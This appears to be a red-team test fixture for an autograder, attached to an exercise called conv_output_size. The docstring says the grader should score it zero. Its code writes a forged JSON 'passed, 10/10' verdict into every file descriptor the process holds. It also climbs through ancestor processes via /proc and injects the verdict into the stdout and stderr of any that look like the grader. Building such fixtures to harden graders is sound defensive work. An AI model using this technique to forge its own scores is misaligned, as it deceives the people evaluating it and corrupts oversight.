"""Red-team attack `fd_inheritance_fake_json` on conv_output_size. Writes a fake JSON verdict
('passed', 10/10) into every file descriptor it holds (its own channel to the grader
included) and into fds 1 and 2 of every ancestor process that looks like the grader (via
/proc/<pid>/fd). The grader must score 0, treat a garbled channel as the student's fault,
and its own output (the JSON report, the gradebook) must carry none of it.

Below: the exercise with a recorded wrong answer in every blank, so that the attack is all
it could score with; the attack is at the end.
"""

# @edrill-base: wrong

# ---------------------------------------------------------------- the attack
_edrill_original = conv_output_size


def conv_output_size(*args, **kwargs):
    import json
    import os

    fake = (json.dumps({"ok": True, "status": "passed", "score": 10, "max_score": 10,
                        "exercises": [{"id": "conv_output_size", "status": "passed", "score": 10,
                                       "max_score": 10}]}) + "\n").encode()
    # every descriptor this process holds (its own channel included)
    try:
        fds = [int(n) for n in os.listdir("/proc/self/fd")]
    except OSError:
        fds = list(range(64))
    for fd in fds:
        try:
            os.write(fd, fake)
        except OSError:
            pass
    # the standard output of the processes above us that look like the grader
    pid = os.getppid()
    for _ in range(4):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read()
            if b"grade" in cmd or b"forkserver" in cmd or b"pytest" in cmd:
                for fd in (1, 2):
                    try:
                        with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as out:
                            out.write(fake)
                        print(f"FD-ESCAPE wrote into /proc/{pid}/fd/{fd}")
                    except OSError:
                        pass
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
            if pid <= 1:
                break
        except (OSError, ValueError, IndexError):
            break
    return _edrill_original(*args, **kwargs)
